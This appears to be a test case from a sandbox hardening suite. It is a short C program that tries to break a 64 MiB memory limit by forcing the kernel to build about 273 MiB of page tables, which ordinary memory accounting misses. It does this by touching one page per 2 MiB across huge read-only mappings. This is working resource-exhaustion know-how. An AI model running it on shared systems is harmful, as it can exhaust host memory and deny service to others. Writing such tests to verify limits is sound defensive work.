// id = "memory-page-tables"
// title = "make the kernel spend memory on page tables, without touching a page of one's own"
// guarantee = "memory"
// layers = ["cgroup", "watchdog", "rlimits"]
// source = ["found while building: VmPTE is in no RSS, PSS or RLIMIT_DATA"]
// expect = ["memory_limit"]
// limits = { memory = 67108864 }
// bare = "user"
// notes = "Reading one page in 2 MiB of a read-only mapping maps the shared zero page and costs one page of tables."
#include "attack.h"
#include <sys/mman.h>

int main(int argc, char **argv) {
    attack_start(argc, argv);
    const size_t step = 2u << 20, count = 70000; /* 273 MiB of tables, 137 GiB of addresses */
    size_t touched = 0;
    for (size_t part = 0; part < count; part += 1000) {
        volatile char *base = (volatile char *)mmap(0, 1000 * step, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
        if (base == MAP_FAILED) {
            char line[80];
            snprintf(line, sizeof line, "mmap: %s after %zu MiB of tables", strerrorname_np(errno), touched * 4096 >> 20);
            if (touched * 4096 < 150u << 20) held(line);
            break;
        }
        madvise((void *)base, 1000 * step, MADV_NOHUGEPAGE);
        for (size_t i = 0; i < 1000; i++, touched++) (void)base[i * step];
    }
    usleep(700000);
    char line[80];
    snprintf(line, sizeof line, "%zu MiB of page tables under a limit of 64 MiB", touched * 4096 >> 20);
    escaped(line);
}
